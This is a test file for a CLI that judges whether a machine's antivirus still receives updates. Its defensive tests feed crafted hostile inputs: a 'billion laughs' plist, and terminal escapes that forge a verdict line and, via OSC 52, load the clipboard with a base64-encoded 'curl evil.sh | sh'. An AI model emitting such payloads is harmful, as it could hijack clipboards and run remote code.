import { readFile, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { temporaryFolderForSuite } from '../../test-support/temporary-folder';
import type { ScanResult } from '../api/contract';
import { buildDiagnosticsFile } from '../core/diagnostics/build-diagnostics';
import { formatScanDocument, parseScanDocument } from '../core/parse/windows/scan-document';
import { readReport } from '../core/report/parse-report';
import { decodeSupportCode } from '../core/support-code/support-code';
import { base64Of, billionLaughsPlist } from '../core/test-support/crafted-plists';
import { captureOf, commandOk, file, listing } from '../core/test-support/hand-made-captures';
import { captureFromCaseDir } from '../probes/replay/case-capture';
import { runCliCaptured } from './test-support/run-cli';

const CASES = resolve(import.meta.dirname, '../../fixtures/detection');
const suiteDir = temporaryFolderForSuite('cli');
let dir: string;

const run = (args: string[]) => runCliCaptured(args, '2026-11-29T12:00:00Z');

beforeAll(async () => {
  dir = suiteDir();
  await writeFile(
    join(dir, 'kes.json'),
    JSON.stringify(await captureFromCaseDir(join(CASES, 'win-kes10-de-wsc'))),
  );
  await writeFile(
    join(dir, 'bitdefender.json'),
    JSON.stringify(await captureFromCaseDir(join(CASES, 'win10-bitdefender-defender-off-thm'))),
  );
});

describe('handover scan --replay', () => {
  it('prints a short plain verdict, what to do in order, and exits 3 when not protected', async () => {
    const { code, stdout } = await run(['scan', '--replay', join(dir, 'kes.json'), '--region', 'us']);
    expect(code).toBe(3);
    expect(stdout).toContain(
      'NOT PROTECTED: Your antivirus stopped receiving updates 791 days ago, on 29 September 2024.',
    );
    expect(stdout).toContain('Updates ended on 29 September 2024 (791 days ago).');
    expect(stdout).toContain(
      'What needs doing:\n  1. Move from Kaspersky Endpoint Security for Windows to an antivirus that still receives updates',
    );
    // The product's own up-to-date bit is its claim, and past the cutoff it counts for nothing.
    expect(stdout).toContain('virus signatures: no date shown, no updates since 29 September 2024');
    expect(stdout).toContain('Region: United States (US), set by you.');
    // The code to read out over the phone, and it decodes to what was printed.
    const supportCode =
      /Support code: (HND-\w{4}-\w{4}) \(read it to whoever helps you\)\./.exec(stdout)?.[1] ?? '';
    const facts = decodeSupportCode(supportCode);
    expect(facts.ok && facts.value).toMatchObject({ verdict: 'unprotected', region: 'US', step: null });
  });

  it('exits 0 for a protected machine, and --json prints the documented shape', async () => {
    const { code, stdout } = await run([
      'scan',
      '--json',
      '--replay',
      join(dir, 'bitdefender.json'),
      '--region',
      'US',
    ]);
    expect(code).toBe(0);
    const result = JSON.parse(stdout) as ScanResult;
    expect(result.schemaVersion).toBe(1);
    expect(result.verdict.level).toBe('protected');
    expect(result.detections.map((d) => d.vendor).sort()).toEqual(['Bitdefender', 'Microsoft']);
  });

  it('--now moves the clock: before the cutoff the same machine is at risk, not unprotected', async () => {
    const { stdout } = await run([
      'scan',
      '--replay',
      join(dir, 'kes.json'),
      '--region',
      'US',
      '--now',
      '2024-09-17T12:00:00Z',
    ]);
    expect(stdout).toContain(
      'AT RISK: Your antivirus stops receiving updates in 11 days, on 29 September 2024.',
    );
  });

  it('one day before the cutoff: "in 1 day", in the headline and the cutoff line', async () => {
    const { code, stdout } = await run([
      'scan',
      '--replay',
      join(dir, 'kes.json'),
      '--region',
      'US',
      '--now',
      '2024-09-28T03:00:00Z',
    ]);
    expect(code).toBe(1);
    expect(stdout).toContain(
      'AT RISK: Your antivirus stops receiving updates in 1 day, on 29 September 2024.',
    );
    expect(stdout).toContain('Updates end on 29 September 2024 (in 1 day).');
    expect(stdout).not.toMatch(/\b1 days\b/);
  });

  it('region unknown and the product banned in the US: cannot tell (exit 4), what is known, and the region first', async () => {
    const { code, stdout } = await run(['scan', '--replay', join(dir, 'kes.json')]);
    expect(code).toBe(4);
    expect(stdout).toContain(
      'CANNOT TELL: Handover needs to know which country this computer is in: in the United States, Kaspersky Endpoint Security for Windows stopped receiving updates on 29 September 2024.',
    );
    expect(stdout).not.toMatch(/PROTECTED: /);
    expect(stdout).toMatch(/What needs doing:\n {2}1\. Choose the country this computer is in/);
  });

  it('Defender off beside a current Bitdefender: protected, nothing to do, and says Defender stepped aside', async () => {
    const { code, stdout } = await run(['scan', '--replay', join(dir, 'bitdefender.json'), '--region', 'US']);
    expect(code).toBe(0);
    expect(stdout).not.toContain('What needs doing');
    expect(stdout).toContain(
      'Microsoft Defender Antivirus (antivirus, running); stepped aside for another antivirus, as designed',
    );
    expect(stdout).toContain('virus signatures: no date shown, the product reports them up to date');
  });
});

describe("Security Center's up-to-date bit against a real date", () => {
  it('the date the Network Agent records wins over the bit, and the bit alone is worded as the claim', async () => {
    // fixtures/journeys/windows-kes-managed/1-before: WSC says up to date (266240); the Network
    // Agent's AVState holds Protection_BasesDate 19-05-2019 [S70].
    const path = join(dir, 'kes-managed.json');
    await writeFile(
      path,
      JSON.stringify(await captureFromCaseDir(resolve(CASES, '../journeys/windows-kes-managed/1-before'))),
    );
    const { code, stdout } = await run(['scan', '--replay', path, '--region', 'DE']);
    expect(code).toBe(3);
    expect(stdout).toContain('virus signatures: 2019-05-19 (2750 days old, out of date)');
    expect(stdout).not.toContain('reports them up to date');
  });
});

describe('--region', () => {
  it.each([
    ['us', 'United States (US)'],
    ['DE', 'Germany (DE)'],
    ['germany', 'Germany (DE)'],
    ['United Kingdom', 'United Kingdom (GB)'],
    ['UK', 'United Kingdom (GB)'],
  ])('accepts %j', async (region, shown) => {
    const { code, stdout } = await run([
      'scan',
      '--replay',
      join(dir, 'bitdefender.json'),
      '--region',
      region,
    ]);
    expect(code).toBe(0);
    expect(stdout).toContain(`Region: ${shown}, set by you.`);
  });

  it.each(['XX', 'zz', 'EU', 'Atlantis'])(
    'refuses %j, a code or name that is no country, with exit 2',
    async (region) => {
      const { code, stdout, stderr } = await run([
        'scan',
        '--replay',
        join(dir, 'bitdefender.json'),
        '--region',
        region,
      ]);
      expect(code).toBe(2);
      expect(stdout).toBe('');
      expect(stderr).toContain(
        `--region "${region}" is not a country: give its two-letter ISO 3166 code or its English name`,
      );
    },
  );
});

describe('exit codes', () => {
  it('--help documents every code', async () => {
    const { code, stdout } = await run(['--help']);
    expect(code).toBe(0);
    for (const line of [
      '0  protected',
      '1  at risk',
      '2  could not run',
      '3  not protected',
      '4  cannot tell',
    ]) {
      expect(stdout).toContain(line);
    }
  });
});

describe('a crafted file cannot hang the scan', () => {
  it('a 1.2 kB capture with a 285-byte "billion laughs" plist: that plist is unreadable, the rest goes on', async () => {
    // Hand-made: /Applications lists ClamXAV (no Info.plist recorded) and an app whose Info.plist
    // is the crafted binary plist of shared references (electron/core/test-support/crafted-plists.ts).
    const capture = captureOf('macos', [
      listing('macos.applications', '/Applications', ['ClamXAV.app', 'Laughs.app']),
      file(
        'macos.applications',
        '/Applications/Laughs.app/Contents/Info.plist',
        base64Of(billionLaughsPlist()),
        'base64',
      ),
    ]);
    const text = JSON.stringify(capture);
    expect(text.length).toBeGreaterThan(1000);
    expect(text.length).toBeLessThan(1400);
    const path = join(dir, 'laughs.json');
    await writeFile(path, text);
    const { code, stdout } = await run(['scan', '--json', '--replay', path, '--region', 'US']);
    expect(code).not.toBe(2);
    const result = JSON.parse(stdout) as ScanResult;
    expect(result.sources.find((s) => s.id === 'macos.applications')).toMatchObject({
      status: 'read',
      reason: expect.stringMatching(/Laughs\.app\/Contents\/Info\.plist: .*more than 100000 values/),
    });
  });
});

describe('1e999 in a capture', () => {
  it('inside the Windows scan: that section is unreadable, the rest is judged (it crashed with exit 2)', async () => {
    const capture = JSON.parse(await readFile(join(dir, 'bitdefender.json'), 'utf8'));
    const record = capture.records[0];
    const doc = parseScanDocument(record.stdout);
    if (!doc.ok) throw new Error(doc.error);
    record.stdout = formatScanDocument({
      ...doc.value.sections,
      'kaspersky.registry': {
        ok: true,
        data: [
          { Path: 'HKLM\\SOFTWARE\\KasperskyLab\\AVP21.3\\Data\\UpdateState', Values: { LastUpdate: 'INF' } },
        ],
      },
    }).replace('"INF"', '1e999');
    const path = join(dir, 'infinite.json');
    await writeFile(path, JSON.stringify(capture));
    const { code, stdout } = await run(['scan', '--replay', path, '--region', 'US']);
    expect(code).toBe(0);
    expect(stdout).toContain(
      'PROTECTED: Bitdefender Antivirus / Total Security is protecting this computer.',
    );
    expect(stdout).toContain(
      'the "kaspersky.registry" section holds a number too large to read (at [0].Values.LastUpdate)',
    );
  });
});

describe('terminal escapes in what a capture holds', () => {
  // A hand-made capture: names and errors carrying OSC 52 (writes the clipboard), a CSI that
  // clears the screen, a line break that forges a verdict line, and a bidi override.
  const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
  const hostile = captureOf(
    'windows',
    [
      commandOk(
        'windows.powershell',
        'powershell.exe',
        [],
        JSON.stringify({
          schema: 'handover.windows-scan/1',
          sections: {
            'wsc.antivirus': {
              ok: true,
              data: [
                {
                  displayName: `Evil${OSC52}AV\nPROTECTED: all is well\u202e`,
                  instanceGuid: '{00000000-0000-0000-0000-000000000001}',
                  pathToSignedProductExe: 'C:\\Evil\\evil.exe',
                  productState: 266240,
                },
              ],
            },
            services: { ok: false, error: 'Access denied\u001b[2J\u009b31m' },
          },
        }),
      ),
    ],
    { hostname: `PC\u001b]0;owned\u0007` },
  );

  it('the plain output shows them as code points, and no line is forged', async () => {
    const path = join(dir, 'hostile.json');
    await writeFile(path, JSON.stringify(hostile));
    const { code, stdout, stderr } = await run(['scan', '--replay', path, '--region', 'US']);
    expect(code).toBe(0);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for them.
    expect(stdout + stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(stdout).toContain(
      'Evil[U+001B]]52;c;Y3VybCBldmlsLnNoIHwgc2g=[U+0007]AV PROTECTED: all is well[U+202E]',
    );
    expect(stdout).toContain('Handover replay of PC[U+001B]]0;owned[U+0007]');
    expect(stdout.split('\n').filter((l) => l.startsWith('PROTECTED:'))).toHaveLength(1);
  });

  it('--json escapes them as JSON, so the value is the same', async () => {
    const path = join(dir, 'hostile.json');
    await writeFile(path, JSON.stringify(hostile));
    const { stdout } = await run(['scan', '--json', '--replay', path, '--region', 'US']);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for them.
    expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    const result = JSON.parse(stdout) as ScanResult;
    expect(result.detections[0]?.name).toBe(`Evil${OSC52}AV\nPROTECTED: all is well\u202e`);
    expect(result.machine.hostname).toBe('PC\u001b]0;owned\u0007');
  });
});

describe('handover could not run (exit 2)', () => {
  it.each([
    ['a missing replay file', ['scan', '--replay', '/no/such/capture.json'], /there is no such file/],
    ['a bad region', ['scan', '--region', 'XX'], /"XX" is not a country/],
    ['a bad date', ['scan', '--now', 'yesterday'], /ISO 8601/],
    ['an unknown command', ['uninstall'], /Unknown command "uninstall"/],
    ['an unknown option', ['scan', '--fast'], /--fast is not an option of handover/],
    ['a mistyped option', ['scan', '--jsno'], /--jsno is not an option of handover: did you mean --json\?/],
    ['a mistyped command', ['scna'], /Unknown command "scna": did you mean "handover scan"\?/],
    ['a missing value', ['scan', '--replay'], /--replay needs a value/],
  ])('%s', async (_name, args, message) => {
    const { code, stderr } = await run(args);
    expect(code).toBe(2);
    expect(stderr).toMatch(message);
  });

  it('a mistyped word gets its correction, then the usage, not the whole help', async () => {
    const { stderr } = await run(['scan', '--jsno']);
    const lines = stderr.split('\n');
    expect(lines.slice(0, 3)).toEqual([
      'handover: --jsno is not an option of handover: did you mean --json?',
      '',
      'Usage:',
    ]);
    expect(stderr).toContain('  handover fleet summarize DIR');
    expect(stderr).toMatch(/\n\nRun "handover --help" for what each command and option does\.\n$/);
    expect(stderr).not.toContain('Exit codes');
    expect(lines.length).toBeLessThan(20);
  });

  it('a capture from a newer Handover', async () => {
    const path = join(dir, 'newer.json');
    await writeFile(path, JSON.stringify({ format: 'handover.capture', formatVersion: 3 }));
    const { code, stderr } = await run(['scan', '--replay', path]);
    expect(code).toBe(2);
    expect(stderr).toMatch(/made by a newer Handover \(capture format 3\)/);
  });

  it('a file that is not a capture', async () => {
    const path = join(dir, 'garbage.json');
    await writeFile(path, 'MZ\u0000\u0001 this is not JSON');
    const { code, stderr } = await run(['scan', '--replay', path]);
    expect(code).toBe(2);
    expect(stderr).toMatch(
      /Could not replay .*garbage\.json: it is not a Handover diagnostics file, report or capture/,
    );
  });
});

describe('handover report', () => {
  it('writes the JSON report of a replayed capture, with its support code, and exits like scan', async () => {
    const out = join(dir, 'report.json');
    const { code, stderr } = await run([
      'report',
      '--replay',
      join(dir, 'kes.json'),
      '--region',
      'US',
      '--format',
      'json',
      '--out',
      out,
    ]);
    expect(code).toBe(3);
    expect(stderr).toContain(
      `Report written to ${out}: Your antivirus stopped receiving updates 791 days ago, on 29 September 2024.`,
    );
    const report = readReport(JSON.parse(await readFile(out, 'utf8')));
    expect(report.ok && report.value.detections.map((d) => d.name)).toContain(
      'Kaspersky Endpoint Security for Windows',
    );
    expect(report.ok && report.value.supportCode).toMatch(/^HND-[0-9A-Y]{4}-[0-9A-Y]{4}$/);
    expect(report.ok && report.value.app.host).toBe('cli');
  });

  it('writes the self-contained page', async () => {
    const out = join(dir, 'report.html');
    const { code } = await run([
      'report',
      '--replay',
      join(dir, 'bitdefender.json'),
      '--format',
      'html',
      '--out',
      out,
    ]);
    expect(code).toBe(0);
    const html = await readFile(out, 'utf8');
    expect(html).toMatch(/^<!doctype html>/i);
    expect(html).toContain('Bitdefender');
    expect(html).not.toMatch(/<script/i);
  });

  it('refuses PDF, a missing --out and an unknown format with exit code 2', async () => {
    for (const args of [
      ['report', '--format', 'pdf', '--out', join(dir, 'r.pdf')],
      ['report', '--format', 'json'],
      ['report', '--out', join(dir, 'r.json')],
    ]) {
      const { code, stderr } = await run(args);
      expect(code).toBe(2);
      expect(stderr).toMatch(/--format|--out/);
    }
  });
});

describe('handover scan --replay on a diagnostics file', () => {
  it('says whose machine and when, and judges it as the sender saw it', async () => {
    const capture = {
      ...(await captureFromCaseDir(join(CASES, 'win-kes10-de-wsc'), '2025-02-28T10:00:00.000Z')),
      host: { hostname: 'ALICE-PC', locale: { env: {} } },
    };
    const built = buildDiagnosticsFile(
      { capture, report: null, log: [] },
      { createdAt: '2025-03-01T09:00:00.000Z', appVersion: '0.1.0', hidePersonalDetails: true },
    );
    if (!built.ok) throw new Error(built.error);
    const path = join(dir, 'diagnostics.json');
    await writeFile(path, JSON.stringify(built.value));
    const { code, stdout, stderr } = await run(['scan', '--replay', path, '--region', 'US']);
    expect(code).toBe(3);
    expect(stderr).toMatch(
      /^Diagnostics from host-1 \(Windows\): scanned 2025-02-28 10:00 UTC, saved 2025-03-01 09:00 UTC\. Read-only; personal details were hidden\./,
    );
    expect(stderr + stdout).not.toMatch(/alice/i);
    // Judged at the capture's own time (no report inside says otherwise), not at the test's clock.
    expect(stdout).toContain('Your antivirus stopped receiving updates 152 days ago, on 29 September 2024.');
    const now = await run(['scan', '--replay', path, '--region', 'US', '--now', '2026-11-29T12:00:00Z']);
    expect(now.stdout).toContain('791 days ago');
  });
});
